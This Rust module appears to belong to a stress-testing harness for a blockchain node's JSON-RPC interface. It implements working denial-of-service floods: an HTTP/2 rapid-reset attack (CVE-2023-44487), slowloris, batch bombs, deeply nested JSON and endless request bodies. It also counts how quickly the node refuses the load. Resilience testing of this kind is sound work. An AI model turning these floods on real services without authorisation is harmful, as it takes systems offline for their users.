//! Floods of RPC's front door: HTTP as it should not be spoken, and questions that cost more than they say.

use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use crate::pace::{Counts, Pace, count, together};
use crate::target::Target;

/// Connections at a time, of floods that say much over each.
const CONNECTIONS: usize = 16;
/// Connections of users who send more than the chain carries: fifty to four nodes.
const CROWD: usize = 13;
/// Connections at a time, of slowloris.
const SLOW_CONNECTIONS: usize = 1000;
/// Between two bytes of a slow connection.
const DRIBBLE: Duration = Duration::from_millis(500);
/// Pause after a connection that was refused.
const REFUSED: Duration = Duration::from_millis(100);
/// An answer that takes longer is not waited for.
const ANSWER: Duration = Duration::from_secs(5);
/// A refusal that takes longer is late.
const SOON: Duration = Duration::from_millis(50);
/// Streams opened and cancelled over one HTTP/2 connection before the next is dialed.
const STREAMS: u32 = 1000;
/// Calls in a batch: as many as a node takes, and many more.
const BATCH: usize = 100;
const BATCH_FAR_TOO_LONG: usize = 20_000;
/// What an oversize body announces, in bytes.
const BODY_BYTES: u64 = 1 << 40;
const BRACKETS: usize = 512 * 1024;

/// Requests over HTTP/2 that are cancelled as soon as they are sent (CVE-2023-44487).
///
/// # Errors
/// If a worker fails.
pub(crate) async fn resets(target: &Target, until: Instant) -> anyhow::Result<Counts> {
    together(CONNECTIONS, |number| resetter(target.clone(), number, until)).await
}

async fn resetter(target: Target, number: usize, until: Instant) -> Counts {
    let mut counts = Counts::new();
    while let Some(mut stream) = connected(&target, number, until, &mut counts).await {
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
        for stream_number in (1..2 * STREAMS).step_by(2) {
            // HEADERS that end stream and headers: POST, http, / by the static table; then RST_STREAM with CANCEL.
            put_frame(&mut bytes, 1, 5, stream_number, &[0x83, 0x86, 0x84]);
            put_frame(&mut bytes, 3, 0, stream_number, &8_u32.to_be_bytes());
        }
        if stream.write_all(&bytes).await.is_ok() {
            count(&mut counts, "streams", u64::from(STREAMS));
        }
        read_to_end(&mut stream, &mut counts).await;
    }
    counts
}

fn put_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Connections that send the head of a request a byte at a time, and are there again when they are cut.
///
/// # Errors
/// If a worker fails.
pub(crate) async fn slowloris(target: &Target, until: Instant) -> anyhow::Result<Counts> {
    together(SLOW_CONNECTIONS, |number| dribbler(target.clone(), number, until)).await
}

async fn dribbler(target: Target, number: usize, until: Instant) -> Counts {
    let mut counts = Counts::new();
    while let Some(mut stream) = connected(&target, number, until, &mut counts).await {
        let begun = stream.write_all(b"POST / HTTP/1.1\r\nhost: node\r\nx-slow: ").await;
        while begun.is_ok() && Instant::now() < until {
            sleep(DRIBBLE).await;
            let mut answer = [0; 512];
            let is_cut =
                !matches!(stream.try_read(&mut answer), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock);
            if is_cut || stream.write_all(b"a").await.is_err() {
                count(&mut counts, "cut", 1);
                break;
            }
            count(&mut counts, "bytes", 1);
        }
    }
    counts
}

/// Batches of whole blocks; every tenth is far beyond the limit.
///
/// # Errors
/// If a worker fails.
pub(crate) async fn batches(target: &Target, until: Instant) -> anyhow::Result<Counts> {
    let call = r#"{"jsonrpc":"2.0","id":1,"method":"fusion_getBlock","params":[1]}"#;
    let bomb = format!("[{}]", vec![call; BATCH].join(","));
    let far_too_long = format!("[{}]", vec!["1"; BATCH_FAR_TOO_LONG].join(","));
    let bodies = [&[far_too_long][..], &vec![bomb; 9]].concat();
    asking(target, until, bodies).await
}

/// Half a million brackets.
///
/// # Errors
/// If a worker fails.
pub(crate) async fn nesting(target: &Target, until: Instant) -> anyhow::Result<Counts> {
    let arrays = format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"fusion_status","params":{}"#,
        "[".repeat(BRACKETS)
    );
    let objects = r#"{"a":"#.repeat(BRACKETS / 5);
    asking(target, until, vec![arrays, objects]).await
}

/// The pace of one of the connections that share the target's.
#[expect(clippy::cast_precision_loss, reason = "a handful")]
fn pace(target: &Target, until: Instant) -> Pace {
    Pace::new(target.rate / CONNECTIONS as f64, until)
}

/// Workers that post `bodies` in turn at their pace, each when the last one is answered.
async fn asking(target: &Target, until: Instant, bodies: Vec<String>) -> anyhow::Result<Counts> {
    together(CONNECTIONS, |number| {
        asker(target.clone(), number, until, bodies.clone())
    })
    .await
}

async fn asker(target: Target, number: usize, until: Instant, bodies: Vec<String>) -> Counts {
    let mut counts = Counts::new();
    let mut pace = pace(&target, until);
    let mut sent = number;
    while let Some(mut stream) = connected(&target, number, until, &mut counts).await {
        while pace.due().await.is_some() {
            let body = &bodies[sent % bodies.len()];
            sent += 1;
            if post(&mut stream, body).await.is_err() {
                count(&mut counts, "cut", 1);
                break;
            }
            match timeout(ANSWER, read_answer(&mut stream)).await {
                Ok(Ok((_, bytes))) => {
                    count(&mut counts, "answers", 1);
                    count(&mut counts, "bytes of answers", bytes as u64);
                }
                _ => {
                    count(&mut counts, "not answered", 1);
                    break;
                }
            }
        }
    }
    counts
}

/// Sends one request.
pub(crate) async fn post(stream: &mut TcpStream, body: &str) -> std::io::Result<()> {
    post_to(stream, "/", body).await
}

async fn post_to(stream: &mut TcpStream, path: &str, body: &str) -> std::io::Result<()> {
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: node\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(body.as_bytes()).await
}

/// Reads one answer with a known length: whether it is HTTP's refusal for overload, and how many bytes it had.
async fn read_answer(stream: &mut TcpStream) -> std::io::Result<(bool, usize)> {
    let (mut head, mut chunk) = (Vec::new(), vec![0; 16 * 1024]);
    let body_at = loop {
        if let Some(at) = head.windows(4).position(|four| four == b"\r\n\r\n") {
            break at + 4;
        }
        let bytes = stream.read(&mut chunk).await?;
        if bytes == 0 || head.len() > chunk.len() {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        head.extend_from_slice(&chunk[..bytes]);
    };
    let text = String::from_utf8_lossy(&head[..body_at]).to_ascii_lowercase();
    let length = text.lines().find_map(|line| line.strip_prefix("content-length:"));
    let length: usize = length.and_then(|length| length.trim().parse().ok()).unwrap_or(0);
    let mut left = length.saturating_sub(head.len() - body_at);
    while left > 0 {
        let most = left.min(chunk.len());
        let bytes = stream.read(&mut chunk[..most]).await?;
        if bytes == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        left -= bytes;
    }
    if text.contains("connection: close") {
        return Err(std::io::ErrorKind::ConnectionAborted.into());
    }
    Ok((text.starts_with("http/1.1 503"), length))
}

/// Bodies of a tebibyte: announced, or in chunks without an end.
///
/// # Errors
/// If a worker fails.
pub(crate) async fn bodies(target: &Target, until: Instant) -> anyhow::Result<Counts> {
    together(CONNECTIONS, |number| filler(target.clone(), number, until)).await
}

async fn filler(target: Target, number: usize, until: Instant) -> Counts {
    let mut counts = Counts::new();
    let is_announced = number.is_multiple_of(2);
    let framing = if is_announced {
        format!("content-length: {BODY_BYTES}")
    } else {
        "transfer-encoding: chunked".into()
    };
    let head = format!("POST / HTTP/1.1\r\nhost: node\r\ncontent-type: application/json\r\n{framing}\r\n\r\n");
    let mut piece = vec![b' '; 16 * 1024];
    if !is_announced {
        piece = [b"4000\r\n", piece.as_slice(), b"\r\n"].concat();
    }
    let mut pace = pace(&target, until);
    while let Some(mut stream) = connected(&target, number, until, &mut counts).await {
        let mut written = stream.write_all(head.as_bytes()).await;
        while written.is_ok() {
            let Some(due) = pace.due().await else { break };
            for _ in 0..due {
                let piece = timeout(ANSWER, stream.write_all(&piece)).await;
                written = piece.unwrap_or_else(|_| Err(std::io::ErrorKind::TimedOut.into()));
                if written.is_err() {
                    break;
                }
                count(&mut counts, "pieces of 16 KiB", 1);
            }
        }
        count(&mut counts, "cut", 1);
    }
    counts
}

/// A connection for worker `number`, tried at a tenth of a second; `None` when the flood is over.
pub(crate) async fn connected(
    target: &Target,
    number: usize,
    until: Instant,
    counts: &mut Counts,
) -> Option<TcpStream> {
    while Instant::now() < until {
        match target.connect(number).await {
            Ok(stream) => {
                count(counts, "connections", 1);
                return Some(stream);
            }
            Err(_) => count(counts, "refused", 1),
        }
        sleep(REFUSED).await;
    }
    None
}

async fn read_to_end(stream: &mut TcpStream, counts: &mut Counts) {
    let mut answer = Vec::new();
    match timeout(ANSWER, stream.read_to_end(&mut answer)).await {
        Ok(_) => count(counts, "cut", 1),
        Err(_) => count(counts, "still open", 1),
    }
}

/// Calls of `method` in batches as large as a node takes, at the pace of the target, over a few connections.
///
/// # Errors
/// If a worker fails.
pub(crate) async fn send_paced<F>(target: &Target, until: Instant, calls: impl Fn(usize) -> F) -> anyhow::Result<Counts>
where
    F: FnMut() -> String + Send + 'static,
{
    together(CONNECTIONS, |number| {
        pacer(target.clone(), number, until, calls(number))
    })
    .await
}

/// Batches of calls that `calls` writes, over as many connections as a small crowd has; each waits for its answer.
///
/// # Errors
/// If a worker fails.
pub(crate) async fn submit_paced<F>(
    target: &Target,
    until: Instant,
    path: &str,
    calls: impl Fn(usize) -> F,
) -> anyhow::Result<Counts>
where
    F: FnMut(&mut String) + Send + 'static,
{
    together(CROWD, |number| {
        submitter(target.clone(), (number, path.to_owned()), until, calls(number))
    })
    .await
}

async fn submitter(
    target: Target,
    (number, path): (usize, String),
    until: Instant,
    mut call: impl FnMut(&mut String) + Send,
) -> Counts {
    let mut counts = Counts::new();
    #[expect(clippy::cast_precision_loss, reason = "a handful")]
    let mut pace = Pace::new(target.rate / BATCH as f64 / CROWD as f64, until);
    let mut body = String::new();
    while let Some(mut stream) = connected(&target, number, until, &mut counts).await {
        while pace.due().await.is_some() {
            body.clear();
            for at in 0..BATCH {
                body.push(if at == 0 { '[' } else { ',' });
                call(&mut body);
            }
            body.push(']');
            count(&mut counts, "calls", BATCH as u64);
            let begun = Instant::now();
            let sent = post_to(&mut stream, &path, &body).await;
            let answer = timeout(ANSWER, read_answer(&mut stream)).await;
            let (Ok(()), Ok(Ok((is_refused, _)))) = (sent, answer) else {
                count(&mut counts, "cut", 1);
                break;
            };
            count(&mut counts, "answers", 1);
            if is_refused {
                count(&mut counts, "refused", 1);
                count(&mut counts, "refused late", u64::from(begun.elapsed() > SOON));
            }
        }
    }
    counts
}

async fn pacer(target: Target, number: usize, until: Instant, mut call: impl FnMut() -> String + Send) -> Counts {
    let mut counts = Counts::new();
    let mut pace = pace(&target, until);
    let mut waiting = Vec::with_capacity(BATCH);
    while let Some(mut stream) = connected(&target, number, until, &mut counts).await {
        while let Some(due) = pace.due().await {
            waiting.extend((0..due).map(|_| call()));
            if waiting.len() < BATCH {
                continue;
            }
            let calls: Vec<String> = waiting.drain(..BATCH).collect();
            count(&mut counts, "calls", BATCH as u64);
            let sent = post(&mut stream, &format!("[{}]", calls.join(","))).await;
            if sent.is_err() || !matches!(timeout(ANSWER, read_answer(&mut stream)).await, Ok(Ok(_))) {
                count(&mut counts, "cut", 1);
                break;
            }
            count(&mut counts, "answers", 1);
        }
    }
    counts
}
